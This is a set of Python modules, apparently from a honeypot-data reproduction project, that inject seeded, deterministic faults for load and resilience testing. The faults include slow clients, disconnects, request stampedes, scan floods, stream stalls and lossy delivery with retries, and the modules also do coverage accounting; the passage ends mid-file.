"""Seeded client fault domain: what goes wrong in the *serving* path.

The stream fault domain (:mod:`repro.faults.stream`) models failures of
live ingest; a query/status service adds a third family that only
exists because there are *clients*: readers that trickle a request in
and then hold the connection (slow loris), clients that vanish mid-
response, thundering herds that stampede one hot query, and malformed
queries probing the parser.  :class:`ServiceFaults` declares those
knobs; :func:`compile_tick_plan` and :func:`compile_request_plan` turn
them into concrete per-tick / per-request plans keyed off a dedicated
``RngTree`` branch, so a whole load test is a pure function of
``(seed, config, policy)`` and two runs produce byte-identical
request-outcome ledgers (``tests/test_service.py`` pins this).

Contract semantics (enforced by the service core):

* **Every fault resolves to a contractual response.**  Whatever the
  plan injects, each request ends as ``ok``, ``rejected(reason)`` or
  ``stale(version)`` — never an unhandled exception, never a 500 while
  any snapshot exists.
* **Faults are digest-neutral.**  The service only *reads* snapshots
  and the store; no client fault can perturb simulation digests,
  accounting or checkpoint bytes (the differential suite proves it).
* **Store errors drive the breaker.**  ``store_error_probability``
  injects a seeded run of failing store reads per tick — the service↔
  store circuit breaker opens and the service degrades to serving the
  last-good snapshot marked ``stale``.

Like the other fault modules, this one must not import
:mod:`repro.config`.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.util.rng import RngTree

#: Probability fields checked by :meth:`ServiceFaults.__post_init__`
#: and :attr:`ServiceFaults.inert`.
_PROBABILITY_FIELDS = (
    "slow_loris_probability",
    "disconnect_probability",
    "herd_probability",
    "malformed_probability",
    "store_error_probability",
)


@dataclass(frozen=True)
class ServiceFaults:
    """Declarative client/serving fault configuration for one load test.

    * ``slow_loris_probability`` — each request independently stalls
      for ``slow_loris_stall_s`` virtual seconds before it can be
      answered; a stall past the request deadline is cancelled and
      rejected (``deadline``).
    * ``disconnect_probability`` — each request's client vanishes
      before reading the response; the service still forms a
      contractual response (the write is what fails), counted as a
      disconnect in the ledger.
    * ``herd_probability`` — each tick independently hosts a
      thundering-herd burst: ``herd_clients`` concurrent clients all
      issuing the *same* query (the single-flight cache's stampede),
      with arrival offsets drawn through the
      :class:`~repro.faults.flood.FloodGenerator` reused as the API
      load model.
    * ``malformed_probability`` — each request independently mutates
      into a malformed query (unknown kind / unknown filter column);
      the service must reject it, never crash on it.
    * ``store_error_probability`` — each tick independently hosts a
      seeded run of ``store_error_run`` consecutive failing store
      reads, starting at a seeded request ordinal — the breaker-open
      scenario.
    """

    slow_loris_probability: float = 0.0
    slow_loris_stall_s: float = 6.0
    disconnect_probability: float = 0.0
    herd_probability: float = 0.0
    herd_clients: int = 16
    malformed_probability: float = 0.0
    store_error_probability: float = 0.0
    store_error_run: int = 4
    onset_window_requests: int = 8

    def __post_init__(self) -> None:
        for name in _PROBABILITY_FIELDS:
            value = getattr(self, name)
            if not 0.0 <= value <= 1.0:
                raise ValueError(f"{name} must be in [0, 1], got {value}")
        if self.slow_loris_stall_s < 0:
            raise ValueError("slow_loris_stall_s must be non-negative")
        if self.herd_clients < 1:
            raise ValueError("herd_clients must be at least 1")
        if self.store_error_run < 1:
            raise ValueError("store_error_run must be at least 1")
        if self.onset_window_requests < 1:
            raise ValueError("onset_window_requests must be at least 1")

    @property
    def inert(self) -> bool:
        """True when no service fault can ever engage."""
        return all(
            getattr(self, name) == 0.0 for name in _PROBABILITY_FIELDS
        )

    @classmethod
    def from_name(cls, name: str) -> "ServiceFaults":
        """Resolve a named service-fault preset (CLI ``--service-profile``).

        One preset per failure family, so each rung of the overload
        ladder can be hammered in isolation, plus ``chaos`` running all
        of them at once (the soak leg's profile).
        """
        presets = {
            "off": cls,
            "slowloris": lambda: cls(
                slow_loris_probability=0.4, slow_loris_stall_s=6.0
            ),
            "disconnect": lambda: cls(disconnect_probability=0.3),
            "herd": lambda: cls(herd_probability=0.5, herd_clients=16),
            "breaker": lambda: cls(
                store_error_probability=0.5, store_error_run=4
            ),
            "chaos": lambda: cls(
                slow_loris_probability=0.15,
                slow_loris_stall_s=6.0,
                disconnect_probability=0.1,
                herd_probability=0.3,
                herd_clients=16,
                malformed_probability=0.1,
                store_error_probability=0.2,
                store_error_run=4,
            ),
        }
        try:
            return presets[name]()
        except KeyError:
            known = ", ".join(sorted(presets))
            raise ValueError(
                f"unknown service profile {name!r} (known: {known})"
            ) from None


#: Preset names accepted by :meth:`ServiceFaults.from_name`.
SERVICE_PROFILES = (
    "off", "slowloris", "disconnect", "herd", "breaker", "chaos",
)


@dataclass(frozen=True)
class TickServicePlan:
    """The tick-scoped faults compiled for one load-model tick."""

    #: Whether this tick hosts a thundering-herd burst.
    herd: bool = False
    #: Request ordinal at which the store-error run starts, or None.
    error_at_request: int | None = None
    #: Consecutive store reads that fail once the run starts.
    error_run: int = 0

    @property
    def inert(self) -> bool:
        return not self.herd and self.error_at_request is None


@dataclass(frozen=True)
class RequestFaultPlan:
    """The request-scoped faults compiled for one client request."""

    #: Virtual seconds the client stalls before the read can complete.
    stall_s: float = 0.0
    #: The client vanishes before reading the response.
    disconnect: bool = False
    #: The query arrives malformed (unknown kind / filter column).
    malformed: bool = False

    @property
    def inert(self) -> bool:
        return (
            self.stall_s == 0.0
            and not self.disconnect
            and not self.malformed
        )


#: Shared inert plans: fault-free ticks/requests allocate nothing.
INERT_TICK_PLAN = TickServicePlan()
INERT_REQUEST_PLAN = RequestFaultPlan()


def compile_tick_plan(
    faults: ServiceFaults, tree: RngTree, tick: int
) -> TickServicePlan:
    """Compile the tick-scoped fault plan for one load-model tick.

    Each fault kind draws from its own ``(tick, kind)`` child stream,
    mirroring :func:`repro.faults.stream.compile_day_plan` — toggling
    one knob never shifts another kind's schedule, so profiles compose.
    """
    if faults.inert:
        return INERT_TICK_PLAN
    herd = False
    if faults.herd_probability > 0.0:
        herd = (
            tree.rand_for(tick, "herd").random() < faults.herd_probability
        )
    error_at: int | None = None
    error_run = 0
    if faults.store_error_probability > 0.0:
        rng = tree.rand_for(tick, "store-error")
        if rng.random() < faults.store_error_probability:
            error_at = rng.randrange(faults.onset_window_requests)
            error_run = faults.store_error_run
    if not herd and error_at is None:
        return INERT_TICK_PLAN
    return TickServicePlan(
        herd=herd, error_at_request=error_at, error_run=error_run
    )


def compile_request_plan(
    faults: ServiceFaults, tree: RngTree, tick: int, ordinal: int
) -> RequestFaultPlan:
    """Compile the request-scoped fault plan for one client request.

    Keyed by ``(tick, request ordinal, kind)``, so replaying the same
    load model replays the same per-request faults regardless of the
    asyncio interleaving the requests resolve in.
    """
    if faults.inert:
        return INERT_REQUEST_PLAN
    stall = 0.0
    if faults.slow_loris_probability > 0.0:
        if (
            tree.coin(tick, ordinal, "slowloris")
            < faults.slow_loris_probability
        ):
            stall = faults.slow_loris_stall_s
    disconnect = False
    if faults.disconnect_probability > 0.0:
        disconnect = (
            tree.coin(tick, ordinal, "disconnect")
            < faults.disconnect_probability
        )
    malformed = False
    if faults.malformed_probability > 0.0:
        malformed = (
            tree.coin(tick, ordinal, "malformed")
            < faults.malformed_probability
        )
    if stall == 0.0 and not disconnect and not malformed:
        return INERT_REQUEST_PLAN
    return RequestFaultPlan(
        stall_s=stall, disconnect=disconnect, malformed=malformed
    )
