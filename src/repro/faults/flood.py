"""Seeded session-burst generator: the arrival side of overload.

Honeypot arrivals are heavy-tailed — most days carry steady scan
background, some days a scanning campaign multiplies the volume.  A
:class:`FloodGenerator` injects those campaign days: on each flood day
(decided per day ordinal from a seed-derived stream) it emits a burst of
scanner no-op connections — SSH connects that offer no credentials and
run nothing, the cheapest and shed-first traffic class — spread across
the fleet at random offsets within the day.

Determinism contract: every decision (which days flood, which sensor
each arrival hits, when) comes from ``tree.child(day ordinal)``, so the
serial engine, every shard worker and the rng-aligned count pass
regenerate the *same* arrivals independently, and the simulation's own
record streams are never perturbed.

This module must not import :mod:`repro.config` (the config module
embeds :class:`~repro.faults.plan.FaultProfile`, which carries our
:class:`~repro.faults.plan.FloodFaults` knobs).
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import date

from repro.faults.plan import FloodFaults
from repro.honeypot.session import ConnectionIntent
from repro.util.rng import RngTree

#: ``bot_label`` stamped on injected flood sessions (ground truth only;
#: the analysis pipeline never reads it).
FLOOD_LABEL = "flood-scanner"


@dataclass(frozen=True)
class FloodGenerator:
    """Deterministic scan-flood arrivals for one run."""

    faults: FloodFaults
    tree: RngTree

    def arrivals(
        self, day: date, fleet_size: int
    ) -> list[tuple[int, float, ConnectionIntent]]:
        """The flood arrivals for ``day``, or an empty list.

        Each arrival is ``(honeypot index, seconds into the day,
        intent)``.  Regenerating the list for the same day is
        byte-identical — the count pass relies on that.
        """
        if fleet_size <= 0:
            return []
        rng = self.tree.child(day.toordinal()).rand()
        if rng.random() >= self.faults.burst_probability:
            return []
        out: list[tuple[int, float, ConnectionIntent]] = []
        for _ in range(self.faults.burst_sessions):
            index = rng.randrange(fleet_size)
            seconds = rng.random() * 86_400.0
            client_ip = (
                f"{rng.randrange(1, 224)}.{rng.randrange(256)}"
                f".{rng.randrange(256)}.{rng.randrange(1, 255)}"
            )
            intent = ConnectionIntent(
                client_ip=client_ip,
                client_port=40_000 + rng.randrange(20_000),
                credentials=(),
                command_lines=(),
                duration_s=1.0,
                bot_label=FLOOD_LABEL,
            )
            out.append((index, seconds, intent))
        return out


def build_flood_generator(
    faults: FloodFaults | None, tree: RngTree
) -> FloodGenerator | None:
    """A flood generator for one run, or ``None`` when bursts are off."""
    if faults is None or not faults.floods:
        return None
    return FloodGenerator(faults=faults, tree=tree)
