"""Seeded stream fault domain: what goes wrong in *live* ingest.

The batch fault profiles (:mod:`repro.faults.plan`) model what breaks
in the *data* — outages, lossy transport, corrupted artifacts.  A live
event stream adds a second family of failures that only exist because
processing happens while data arrives: the consumer falls behind, a
sensor partitions away and replays its backlog late, a machine's clock
skews and makes healthy stages look dead.  :class:`StreamFaults`
declares those knobs; :func:`compile_day_plan` turns them into one
concrete :class:`DayStreamPlan` per calendar day, keyed off a dedicated
``RngTree`` branch — so the same seed stalls the same days in every
run, and the supervision timeline the stream engine produces is a pure
function of ``(seed, faults)``.

Digest semantics (pinned by ``tests/test_stream.py``):

* **Stalls are digest-neutral.**  A stalled consumer buffers arrivals
  in the bounded inter-stage queue and drains them FIFO, so the
  collector sees the same records in the same order — unless the queue
  overflows and backpressure forces the admission gate to shed, which
  only exists when a flood profile attaches a gate.
* **Partitions are digest-neutral without a gate.**  A partitioned
  sensor's records are buffered and replayed in original order before
  the day closes (delayed, never lost); with an admission gate the
  *delay* changes which records hit the day's budget first, which is a
  deterministic function of the fault plan.
* **Clock skew never touches record bytes.**  It skews only the
  heartbeat timestamps the supervisor reads, so it can trip false
  staleness alarms — supervision noise, not data noise.
* **Analysis errors are observational.**  The incremental analysis
  stage sits after the collector; a failing stage defers analysis work
  (counted), it never drops a record.

Like the other fault modules, this one must not import
:mod:`repro.config`.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import date
from typing import Sequence

from repro.util.rng import RngTree

#: Probability fields checked by :meth:`StreamFaults.__post_init__` and
#: :attr:`StreamFaults.inert`.
_PROBABILITY_FIELDS = (
    "stall_probability",
    "partition_probability",
    "analysis_error_probability",
    "clock_skew_probability",
)


@dataclass(frozen=True)
class StreamFaults:
    """Declarative stream-fault configuration for one supervised run.

    * ``stall_probability`` — each day the analysis consumer stalls
      with this probability, starting at a seeded event ordinal and
      lasting ``stall_virtual_s`` virtual seconds; arrivals pile into
      the inter-stage queue meanwhile.
    * ``partition_probability`` — each day up to
      ``partition_max_sensors`` seeded sensors partition away; their
      records buffer sensor-side and replay in order before day close.
    * ``analysis_error_probability`` — each day the analysis stage
      throws on a seeded run of ``analysis_error_run`` consecutive
      events, which is what trips the analysis circuit breaker.
    * ``clock_skew_probability`` — each day the supervision clock skews
      by a seeded offset up to ``clock_skew_max_s`` virtual seconds,
      aging every heartbeat the supervisor reads.

    Onset ordinals are drawn uniformly in ``[0, onset_window_events)``;
    a day with fewer events than the drawn onset simply does not host
    that fault (short days are quiet days — deterministically so).
    """

    stall_probability: float = 0.0
    stall_virtual_s: float = 3.0
    partition_probability: float = 0.0
    partition_max_sensors: int = 3
    analysis_error_probability: float = 0.0
    analysis_error_run: int = 4
    clock_skew_probability: float = 0.0
    clock_skew_max_s: float = 20.0
    onset_window_events: int = 200

    def __post_init__(self) -> None:
        for name in _PROBABILITY_FIELDS:
            value = getattr(self, name)
            if not 0.0 <= value <= 1.0:
                raise ValueError(f"{name} must be in [0, 1], got {value}")
        if self.stall_virtual_s < 0:
            raise ValueError("stall_virtual_s must be non-negative")
        if self.partition_max_sensors < 1:
            raise ValueError("partition_max_sensors must be at least 1")
        if self.analysis_error_run < 1:
            raise ValueError("analysis_error_run must be at least 1")
        if self.clock_skew_max_s < 0:
            raise ValueError("clock_skew_max_s must be non-negative")
        if self.onset_window_events < 1:
            raise ValueError("onset_window_events must be at least 1")

    @property
    def inert(self) -> bool:
        """True when no stream fault can ever engage."""
        return all(
            getattr(self, name) == 0.0 for name in _PROBABILITY_FIELDS
        )

    @classmethod
    def from_name(cls, name: str) -> "StreamFaults":
        """Resolve a named stream-fault preset (CLI ``--stream-profile``).

        ``off`` is the inert default; ``chaos`` runs every fault kind at
        elevated probability — most days host at least one — which is
        what the soak leg and the determinism suite hammer on.
        """
        presets = {
            "off": cls,
            "chaos": lambda: cls(
                stall_probability=0.3,
                stall_virtual_s=3.0,
                partition_probability=0.25,
                partition_max_sensors=3,
                analysis_error_probability=0.3,
                analysis_error_run=4,
                clock_skew_probability=0.2,
                clock_skew_max_s=20.0,
            ),
        }
        try:
            return presets[name]()
        except KeyError:
            known = ", ".join(sorted(presets))
            raise ValueError(
                f"unknown stream profile {name!r} (known: {known})"
            ) from None


@dataclass(frozen=True)
class DayStreamPlan:
    """The concrete stream faults compiled for one calendar day."""

    #: Event ordinal at which the consumer stalls, or None.
    stall_at_event: int | None = None
    #: Virtual seconds the stalled consumer stays down.
    stall_virtual_s: float = 0.0
    #: Honeypot ids partitioned away for the day (replayed before close).
    partitioned: frozenset[str] = frozenset()
    #: Event ordinal at which the analysis-error run starts, or None.
    error_at_event: int | None = None
    #: Consecutive analysis events that fail once the run starts.
    error_run: int = 0
    #: Offset applied to heartbeat stamps the supervisor reads.
    clock_skew_s: float = 0.0

    @property
    def inert(self) -> bool:
        return (
            self.stall_at_event is None
            and not self.partitioned
            and self.error_at_event is None
            and self.clock_skew_s == 0.0
        )


#: Shared inert plan: fault-free days allocate nothing.
INERT_DAY_PLAN = DayStreamPlan()


def compile_day_plan(
    faults: StreamFaults,
    tree: RngTree,
    day: date,
    sensor_ids: Sequence[str],
) -> DayStreamPlan:
    """Compile the concrete fault plan for one day.

    Each fault kind draws from its own ``(day ordinal, kind)`` child
    stream, so toggling one knob never shifts another kind's schedule —
    profiles compose.  ``sensor_ids`` must be sorted (the engine passes
    the honeynet's ids in id order) so partition sampling is stable.
    """
    if faults.inert:
        return INERT_DAY_PLAN
    ordinal = day.toordinal()
    stall_at: int | None = None
    stall_s = 0.0
    if faults.stall_probability > 0.0:
        rng = tree.rand_for(ordinal, "stall")
        if rng.random() < faults.stall_probability:
            stall_at = rng.randrange(faults.onset_window_events)
            stall_s = faults.stall_virtual_s
    partitioned: frozenset[str] = frozenset()
    if faults.partition_probability > 0.0 and sensor_ids:
        rng = tree.rand_for(ordinal, "partition")
        if rng.random() < faults.partition_probability:
            k = rng.randint(
                1, min(faults.partition_max_sensors, len(sensor_ids))
            )
            partitioned = frozenset(rng.sample(list(sensor_ids), k))
    error_at: int | None = None
    error_run = 0
    if faults.analysis_error_probability > 0.0:
        rng = tree.rand_for(ordinal, "analysis")
        if rng.random() < faults.analysis_error_probability:
            error_at = rng.randrange(faults.onset_window_events)
            error_run = faults.analysis_error_run
    skew = 0.0
    if faults.clock_skew_probability > 0.0:
        rng = tree.rand_for(ordinal, "skew")
        if rng.random() < faults.clock_skew_probability:
            skew = rng.random() * faults.clock_skew_max_s
    return DayStreamPlan(
        stall_at_event=stall_at,
        stall_virtual_s=stall_s,
        partitioned=partitioned,
        error_at_event=error_at,
        error_run=error_run,
        clock_skew_s=skew,
    )
