"""Degraded-mode coverage accounting.

A long-term measurement is only trustworthy if its gaps are explicit.
:func:`build_coverage_report` turns a compiled fault plan into the
fraction of sensor-days actually observed, per month and per sensor;
experiments annotate their figures with the gap months instead of
silently misreading a dark month as "attacks stopped", and
:func:`validate_coverage` fails loudly when a profile degrades the
instrument past usefulness.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass

from repro.faults.plan import FaultPlan
from repro.util.timeutils import days_between, month_key


@dataclass(frozen=True)
class MonthCoverage:
    """Observed vs scheduled sensor-days for one calendar month."""

    month: str
    total_sensor_days: int
    observed_sensor_days: int

    @property
    def fraction(self) -> float:
        if self.total_sensor_days == 0:
            return 0.0
        return self.observed_sensor_days / self.total_sensor_days


@dataclass(frozen=True)
class CoverageReport:
    """Per-month and per-sensor observed-day fractions for one run."""

    months: dict[str, MonthCoverage]
    #: honeypot id → fraction of window days the sensor was collecting.
    sensors: dict[str, float]

    @property
    def overall_fraction(self) -> float:
        total = sum(m.total_sensor_days for m in self.months.values())
        observed = sum(m.observed_sensor_days for m in self.months.values())
        return observed / total if total else 0.0

    def gap_months(self, threshold: float = 0.999) -> list[str]:
        """Months whose coverage falls below ``threshold`` (sorted)."""
        return sorted(
            key
            for key, month in self.months.items()
            if month.fraction < threshold
        )

    def worst_sensors(self, limit: int = 5) -> list[tuple[str, float]]:
        """The ``limit`` sensors with the lowest coverage, worst first."""
        ranked = sorted(self.sensors.items(), key=lambda item: item[1])
        return ranked[:limit]

    def notes(self, threshold: float = 0.97) -> list[str]:
        """Figure annotations for months with degraded coverage.

        The threshold is looser than :meth:`gap_months`'s default so
        background sensor churn (a percent or so per month) does not
        annotate every month — only genuine gaps like fleet outages.
        """
        gaps = self.gap_months(threshold)
        if not gaps:
            return []
        parts = ", ".join(
            f"{month} ({self.months[month].fraction:.1%} sensor-days)"
            for month in gaps
        )
        return [f"coverage gaps: {parts}"]


def integrity_note(lost: int, total: int) -> str | None:
    """Figure annotation for records lost to storage corruption.

    ``lost`` is the quarantined (unrecoverable) record count out of
    ``total`` generated records, as reported by the collector's
    conservation accounting or a :class:`~repro.honeynet.io.RecoveryReport`.
    Returns ``None`` when nothing was lost, so callers can append the
    note only when it carries information.
    """
    if lost <= 0:
        return None
    fraction = lost / total if total else 0.0
    return (
        f"integrity: {lost} of {total} records ({fraction:.2%}) lost to "
        "corruption and quarantined"
    )


def overload_note(shed: int, total: int) -> str | None:
    """Figure annotation for records shed by admission control.

    The overload analogue of :func:`integrity_note`: ``shed`` is the
    load-shedding bucket out of ``total`` generated records.  Returns
    ``None`` when nothing was shed, so an unflooded run's figures carry
    no overload annotation at all.
    """
    if shed <= 0:
        return None
    fraction = shed / total if total else 0.0
    return (
        f"overload: {shed} of {total} records ({fraction:.2%}) shed by "
        "admission control during flood days"
    )


def build_coverage_report(plan: FaultPlan) -> CoverageReport:
    """Scheduled coverage under ``plan`` (ground truth, not inference).

    A sensor-day is *observed* when the fleet was not in an outage and
    that sensor was not in a crash window on that day.
    """
    n_sensors = len(plan.honeypot_ids)
    outage_ordinals = {
        window.start.toordinal() + offset
        for window in plan.profile.outages
        for offset in range(window.days)
    }
    down_per_day = Counter(ordinal for _, ordinal in plan.sensor_down_days)
    # Per-sensor down-days, not double-counting days the whole fleet was
    # dark anyway.
    down_per_sensor = Counter(
        honeypot_id
        for honeypot_id, ordinal in plan.sensor_down_days
        if ordinal not in outage_ordinals
    )

    months: dict[str, MonthCoverage] = {}
    totals: Counter[str] = Counter()
    observed: Counter[str] = Counter()
    window_days = 0
    outage_days = 0
    for day in days_between(plan.start, plan.end):
        window_days += 1
        key = month_key(day)
        totals[key] += n_sensors
        ordinal = day.toordinal()
        if ordinal in outage_ordinals:
            outage_days += 1
            continue
        observed[key] += n_sensors - down_per_day.get(ordinal, 0)
    for key in sorted(totals):
        months[key] = MonthCoverage(
            month=key,
            total_sensor_days=totals[key],
            observed_sensor_days=observed.get(key, 0),
        )

    sensors: dict[str, float] = {}
    for honeypot_id in plan.honeypot_ids:
        up_days = window_days - outage_days - down_per_sensor.get(honeypot_id, 0)
        sensors[honeypot_id] = up_days / window_days if window_days else 0.0
    return CoverageReport(months=months, sensors=sensors)


class CoverageError(ValueError):
    """Raised when a run's coverage is too degraded to analyse."""


def validate_coverage(
    report: CoverageReport,
    min_month_fraction: float = 0.1,
    min_overall_fraction: float = 0.6,
    *,
    accounting: dict[str, int] | None = None,
    max_shed_fraction: float = 0.75,
) -> None:
    """Fail loudly when coverage drops below the given thresholds.

    The defaults are deliberately permissive: they catch profiles that
    black out whole stretches of the window (which would invalidate the
    trend analyses) while letting realistic churn through.

    ``accounting`` (a collector accounting dict) extends the check to
    the overload dimension: a run whose admission gate shed more than
    ``max_shed_fraction`` of everything generated is a stress artifact,
    not a dataset — trend and share analyses over it would mostly
    measure the shed policy.
    """
    overall = report.overall_fraction
    if overall < min_overall_fraction:
        raise CoverageError(
            f"overall coverage {overall:.1%} is below the "
            f"{min_overall_fraction:.0%} floor — the dataset is too "
            "degraded for trend analysis"
        )
    bad = [
        key
        for key, month in report.months.items()
        if month.fraction < min_month_fraction
    ]
    if bad:
        listed = ", ".join(
            f"{key} ({report.months[key].fraction:.1%})" for key in sorted(bad)
        )
        raise CoverageError(
            f"months below the {min_month_fraction:.0%} coverage floor: "
            f"{listed}"
        )
    if accounting is not None:
        shed = accounting.get("shed", 0)
        generated = accounting.get("generated", 0)
        if generated and shed / generated > max_shed_fraction:
            raise CoverageError(
                f"admission control shed {shed} of {generated} records "
                f"({shed / generated:.1%}) — above the "
                f"{max_shed_fraction:.0%} ceiling, the dataset mostly "
                "reflects the shed policy rather than attacker behaviour"
            )
