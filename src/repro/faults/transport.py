"""The honeypot→collector delivery channel.

Real honeynets ship session logs over an unreliable network.  This
module models that hop: a :class:`ResilientChannel` retries failed
delivery attempts with capped exponential backoff plus jitter, parks
records that exhaust their attempts in the collector's dead-letter
queue, and lets the collector deduplicate at-least-once redeliveries.
When the profile's transport is lossless (the default paper profile)
:func:`build_channel` returns a zero-overhead :class:`DirectChannel`
instead, so the fault machinery costs nothing unless enabled.

Retry backoff is *simulated* time: it is accounted in
:class:`ChannelStats` but does not shift session timestamps — delivery
latency is not part of the recorded data, exactly as in the deployed
system where logs carry capture time, not arrival time.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import TYPE_CHECKING

from repro import telemetry
from repro.faults.plan import TransportFaults
from repro.honeypot.session import SessionRecord
from repro.telemetry.metrics import BACKOFF_BOUNDS
from repro.util.rng import RngTree

if TYPE_CHECKING:  # pragma: no cover - import cycle guard
    from repro.honeynet.collector import Collector


@dataclass(frozen=True)
class RetryPolicy:
    """Capped exponential backoff with equal jitter."""

    max_attempts: int = 4
    base_s: float = 0.5
    cap_s: float = 30.0
    jitter: float = 0.5

    def __post_init__(self) -> None:
        if self.max_attempts < 1:
            raise ValueError("max_attempts must be at least 1")
        if not 0.0 <= self.jitter <= 1.0:
            raise ValueError("jitter must be in [0, 1]")
        if self.base_s < 0 or self.cap_s < self.base_s:
            raise ValueError("need 0 <= base_s <= cap_s")

    @classmethod
    def from_faults(cls, faults: TransportFaults) -> "RetryPolicy":
        return cls(
            max_attempts=faults.max_attempts,
            base_s=faults.backoff_base_s,
            cap_s=faults.backoff_cap_s,
        )

    def backoff_s(self, attempt: int, rng: random.Random) -> float:
        """Delay before retrying after failed attempt ``attempt`` (1-based)."""
        raw = min(self.cap_s, self.base_s * 2 ** (attempt - 1))
        return raw * (1.0 - self.jitter + self.jitter * rng.random())


@dataclass
class ChannelStats:
    """Transport-side accounting (collector counters cover the rest)."""

    delivered: int = 0
    attempts: int = 0
    transient_failures: int = 0
    corrupt_deliveries: int = 0
    duplicate_deliveries: int = 0
    simulated_backoff_s: float = 0.0


@dataclass
class DirectChannel:
    """Lossless pass-through used when no transport faults are enabled."""

    collector: "Collector"
    stats: ChannelStats = field(default_factory=ChannelStats)

    def deliver(self, record: SessionRecord) -> bool:
        return self.collector.ingest(record)

    def flush_telemetry(self) -> None:
        """Nothing to flush — a lossless channel records no telemetry."""

    def mark_telemetry_flushed(self) -> None:
        """Nothing to mark — a lossless channel records no telemetry."""


class ResilientChannel:
    """At-least-once delivery with bounded retries over a lossy path.

    Every record gets its own random stream keyed by session id, so
    transport faults are deterministic under the master seed and
    independent of delivery order.
    """

    def __init__(
        self,
        collector: "Collector",
        faults: TransportFaults,
        tree: RngTree,
        policy: RetryPolicy | None = None,
    ) -> None:
        self.collector = collector
        self.faults = faults
        self.policy = policy or RetryPolicy.from_faults(faults)
        self.stats = ChannelStats()
        self._tree = tree
        self._flushed_attempts = 0
        self._flushed_delivered = 0

    def deliver(self, record: SessionRecord) -> bool:
        """Deliver one record; returns True iff it ended up stored."""
        collector = self.collector
        collector.generated += 1
        reason = collector.drop_reason(record)
        if reason is not None:
            collector.record_drop(reason)
            return False
        rng = self._tree.rand_for(record.session_id)
        faults = self.faults
        registry = telemetry.active()
        fail_below = faults.failure_probability + faults.corruption_probability
        for attempt in range(1, self.policy.max_attempts + 1):
            self.stats.attempts += 1
            roll = rng.random()
            if roll < faults.corruption_probability:
                self.stats.corrupt_deliveries += 1
                if registry is not None:
                    registry.count("transport.corrupt_deliveries")
            elif roll < fail_below:
                self.stats.transient_failures += 1
                if registry is not None:
                    registry.count("transport.transient_failures")
            else:
                # Route through the admission gate when one is attached;
                # a deferred record reports unstored here and lands at
                # the day-boundary drain instead.
                stored = collector.admit(record)
                if stored:
                    self.stats.delivered += 1
                    if rng.random() < faults.duplicate_probability:
                        # Lost ack: the sensor re-transmits the stored
                        # record; the duplicate crosses the collection
                        # boundary and is deduplicated there.
                        self.stats.duplicate_deliveries += 1
                        if registry is not None:
                            registry.count("transport.duplicate_deliveries")
                        collector.ingest(record)
                return stored
            if attempt < self.policy.max_attempts:
                collector.retried += 1
                backoff = self.policy.backoff_s(attempt, rng)
                self.stats.simulated_backoff_s += backoff
                if registry is not None:
                    registry.count("transport.retries")
                    registry.observe(
                        "transport.backoff_s", backoff, BACKOFF_BOUNDS
                    )
        collector.dead_letter(record)
        return False

    def flush_telemetry(self) -> None:
        """Emit attempt/delivery counter deltas since the last flush.

        The two counters that move on *every* record are batch-granular
        like the collector's: ``deliver`` only bumps plain
        :class:`ChannelStats` attributes, and the day loop flushes the
        deltas at day boundaries and at run finish.  Totals equal
        per-record emission exactly.  The rare-path counters (failures,
        corruptions, duplicates, retries and the backoff histogram)
        stay inline — they fire only on fault rolls.
        """
        stats = self.stats
        registry = telemetry.active()
        if registry is not None:
            attempts = stats.attempts - self._flushed_attempts
            if attempts:
                registry.count("transport.attempts", attempts)
            delivered = stats.delivered - self._flushed_delivered
            if delivered:
                registry.count("transport.delivered", delivered)
        self._flushed_attempts = stats.attempts
        self._flushed_delivered = stats.delivered

    def mark_telemetry_flushed(self) -> None:
        """Advance the flush snapshot without emitting.

        The parallel engine folds shard ``ChannelStats`` into the
        parent channel after each merge; those deliveries were already
        counted — by the shard's own registry, or inline during a
        serial fallback — so the parent's final flush must not emit
        them again (the mirror of
        :meth:`Collector._mark_telemetry_flushed` after ``absorb``).
        """
        self._flushed_attempts = self.stats.attempts
        self._flushed_delivered = self.stats.delivered


def build_channel(
    collector: "Collector", faults: TransportFaults, tree: RngTree
) -> "DirectChannel | ResilientChannel":
    """The cheapest channel that honours ``faults``."""
    if faults.lossless:
        return DirectChannel(collector)
    return ResilientChannel(collector, faults, tree)
