"""The fault plan: what breaks, where, and when — all from the seed.

A :class:`FaultProfile` is declarative configuration (it lives on
:class:`~repro.config.SimulationConfig`); :func:`compile_fault_plan`
turns it into a concrete :class:`FaultPlan` — per-sensor down-days and
fleet-wide outage ranges — using streams derived from the master
:class:`~repro.util.rng.RngTree`, so the same seed always breaks the
same things on the same days.

This module must not import :mod:`repro.config` (the config module
imports *us* to embed the profile).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import date, timedelta
from typing import Iterable, Sequence

from repro.util.rng import RngTree, poisson

#: The honeynet maintenance outage: no sessions recorded for 48 hours
#: on October 8-9, 2023 (paper section 3.3).
PAPER_OUTAGE_START = date(2023, 10, 8)
PAPER_OUTAGE_END = date(2023, 10, 9)


@dataclass(frozen=True)
class OutageWindow:
    """An interval (inclusive dates) with no data collection."""

    start: date
    end: date

    def __post_init__(self) -> None:
        if self.start > self.end:
            raise ValueError("outage start must not be after end")

    def covers(self, day: date) -> bool:
        return self.start <= day <= self.end

    def ordinals(self) -> tuple[int, int]:
        """The window as an inclusive ``(start, end)`` ordinal range."""
        return (self.start.toordinal(), self.end.toordinal())

    @property
    def days(self) -> int:
        return (self.end - self.start).days + 1


#: The one outage the paper reports, as a reusable window.
PAPER_OUTAGE = OutageWindow(PAPER_OUTAGE_START, PAPER_OUTAGE_END)


@dataclass(frozen=True)
class TransportFaults:
    """Loss model for the honeypot→collector delivery path.

    Each delivery attempt independently fails with
    ``failure_probability`` (transient ingest failure: the collector was
    unreachable) or ``corruption_probability`` (the record arrived
    truncated/corrupt and failed its checksum).  Failed attempts are
    retried with exponential backoff up to ``max_attempts``; a record
    that exhausts its attempts is dead-lettered.  After a successful
    store the sensor may re-transmit the same record
    (``duplicate_probability`` — a lost ack under at-least-once
    delivery), which the collector deduplicates by session id.
    """

    failure_probability: float = 0.0
    corruption_probability: float = 0.0
    duplicate_probability: float = 0.0
    max_attempts: int = 1
    backoff_base_s: float = 0.5
    backoff_cap_s: float = 30.0

    def __post_init__(self) -> None:
        for name in (
            "failure_probability",
            "corruption_probability",
            "duplicate_probability",
        ):
            value = getattr(self, name)
            if not 0.0 <= value < 1.0:
